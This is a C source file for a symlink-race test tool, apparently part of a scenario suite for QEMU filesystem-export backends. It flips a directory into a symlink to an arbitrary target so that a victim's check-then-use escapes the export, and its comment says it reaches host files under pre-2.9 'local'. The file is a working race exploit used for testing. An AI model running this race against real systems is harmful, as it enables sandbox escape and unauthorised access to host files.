/* race DIR TARGET [ROUNDS] — the symlink-race attacker of scenarios.md `race/swap-dir-for-symlink`:
 * flips DIR between a real directory and a symlink to TARGET, ROUNDS times (default 100):
 *   rename(DIR, DIR.real); symlink(TARGET, DIR); ... unlink(DIR); rename(DIR.real, DIR)
 * Run it as a second actor while the victim checks DIR/file and then uses it: under `local` before
 * QEMU 2.9 the use can land on TARGET/file on the host; proxy and hardened local resolve it inside the
 * export (or refuse). Prints one summary line; exits 1 if any step failed. */
#include <stdlib.h>
#include <unistd.h>
#include "common.h"

int main(int argc, char **argv) {
  prog = "race";
  if (argc < 3) { fputs("usage: race DIR TARGET [ROUNDS]\n", stderr); return 2; }
  const char *dir = argv[1], *target = argv[2];
  long rounds = argc > 3 ? strtol(argv[3], NULL, 10) : 100;
  char real[4096];
  snprintf(real, sizeof real, "%s.real", dir);
  long flips = 0;
  for (long r = 0; r < rounds; r++) {
    if (rename(dir, real) != 0) { fprintf(stderr, "race: rename '%s' -> '%s': %s\n", dir, real, strerror(errno)); break; }
    if (symlink(target, dir) != 0) { fprintf(stderr, "race: symlink '%s' -> '%s': %s\n", dir, target, strerror(errno)); rename(real, dir); break; }
    flips++;
    if (unlink(dir) != 0) { fprintf(stderr, "race: unlink '%s': %s\n", dir, strerror(errno)); break; }
    if (rename(real, dir) != 0) { fprintf(stderr, "race: rename '%s' -> '%s': %s\n", real, dir, strerror(errno)); break; }
    flips++;
  }
  printf("race: %ld flips of %s (%s <-> -> %s)\n", flips, dir, "dir", target);
  return flips == 2 * rounds ? 0 : 1;
}
